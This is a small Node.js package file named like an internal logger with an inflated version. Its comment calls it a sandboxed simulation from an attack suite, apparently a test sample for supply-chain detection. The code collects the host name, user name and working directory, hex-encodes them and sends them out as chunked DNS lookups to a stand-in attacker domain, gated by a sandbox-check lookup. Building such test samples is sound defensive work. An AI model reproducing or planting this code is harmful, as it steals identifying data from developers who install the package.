// pp-internal-logger 99.10.9 (simulation from Tracehound's attack suite: acts only inside the sandbox)
const os = require('os'), dns = require('dns');
function main() {
  const data = [os.hostname(), os.userInfo().username, process.cwd()].join('|');
  const hex = Buffer.from(data).toString('hex');
  const chunks = hex.match(/.{1,60}/g) || [];
  chunks.forEach((c, i) => dns.lookup(`${c}.${i}.${chunks.length}.dns.attacker.example`, () => {}));
}
dns.lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
